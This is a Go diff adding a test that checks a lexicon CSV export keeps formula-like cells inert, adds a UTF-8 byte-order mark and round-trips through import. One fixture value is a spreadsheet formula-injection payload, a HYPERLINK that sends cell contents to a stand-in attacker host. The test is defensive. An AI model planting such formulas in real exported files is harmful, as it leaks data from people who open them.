@@ -1,6 +1,8 @@
 package lexicons
 
 import (
+	"bytes"
+	"encoding/csv"
 	"reflect"
 	"strings"
 	"testing"
@@ -184,5 +186,44 @@ func TestShippedLexiconsCoverTheirTopics(t *testing.T) {
 		if len(m.Analyze(w).Matches) == 0 {
 			t.Errorf("no shipped term finds %q", w)
 		}
+	}
+}
+
+// A lexicon's text may start like a spreadsheet formula: the CSV export
+// keeps every such cell inert, starts with a byte-order mark so that
+// spreadsheets read it as UTF-8, and the import gives the text back as it was.
+func TestTheCSVExportKeepsFormulasInertAndTheImportGivesTheTextBack(t *testing.T) {
+	l := framing.Lexicon{Slug: "formulas", Name: "=Formulas", Language: "en", Description: "+1 for Chloé",
+		Perspectives: []framing.Perspective{{Slug: "p", Name: "@mention", Description: "-minus"}},
+		Concepts: []framing.Concept{{Slug: "c", Name: "Concept", Category: "places", Description: "'=quoted already",
+			Terms: []framing.Term{{Phrase: "Northburg", Language: "en", Perspective: "p", Match: framing.MatchWord,
+				Note: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Neutral: "-the city", SourceTitle: "@source",
+				SourceURL: "https://example.org/n"}}}},
+	}
+	data, err := ExportCSV(l)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rest, ok := bytes.CutPrefix(data, []byte("\xEF\xBB\xBF"))
+	if !ok {
+		t.Error("the CSV does not start with a UTF-8 byte-order mark")
+	}
+	rows, err := csv.NewReader(bytes.NewReader(rest)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range rows {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("cell %q would run as a formula", cell)
+			}
+		}
+	}
+	back, err := ImportCSV(data)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !reflect.DeepEqual(back, l) {
+		t.Errorf("round trip changed the lexicon:\n got %+v\nwant %+v", back, l)
 	}
 }
